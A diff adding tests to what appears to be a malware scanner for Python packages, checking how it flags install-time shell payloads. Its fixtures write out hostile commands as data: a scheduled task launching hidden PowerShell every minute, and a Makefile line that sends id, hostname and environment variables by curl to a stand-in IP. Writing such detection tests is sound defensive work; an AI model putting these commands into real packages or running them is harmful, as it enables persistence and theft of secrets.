@@ -335,3 +335,36 @@ test('what a tool sends is called sending, and what it fetches a download', asyn
     { message: 'Starts a download from box.vendor.invalid.' },
   ]);
 });
+
+test('of several things that a line does the worst is told: a hidden window, and a task that starts again', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import subprocess',
+      `subprocess.run('schtasks /create /f /sc minute /tn Update /tr "powershell -w hidden -f C:\\\\a.ps1"', shell=True)`,
+    ),
+  });
+
+  expect(await inspect('shell-payload', file)).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', message: 'Sets something up that starts again by itself.' },
+  ]);
+});
+
+test('a recipe of another folder is read where `make -C` starts it, and so is what it tells of the machine', async () => {
+  const native = (recipe: string): ReturnType<typeof sdist> =>
+    sdist({
+      'setup.py': python(
+        'import subprocess',
+        "subprocess.call(['make', '-C', 'native', 'all'])",
+        'from setuptools import setup',
+        "setup(name='example')",
+      ),
+      'native/Makefile': `clean:\n\trm -f x.so\nall:\n\t${recipe}\n\t@cc -shared -o x.so x.c\n`,
+      'native/x.c': 'int x(){return 1;}\n',
+    });
+
+  expect(
+    await inspect('shell-payload', native('@curl -s -d "`id;hostname;env`" http://203.0.113.7/m || true')),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'install', path: 'example-1.0.0/setup.py', line: 2 }]);
+  expect(await inspect('shell-payload', native('@curl -sL https://203.0.113.7/x.tgz -o x.tgz'))).toEqual([]);
+  expect(await inspect('shell-payload', native('@echo building as `whoami`'))).toEqual([]);
+});
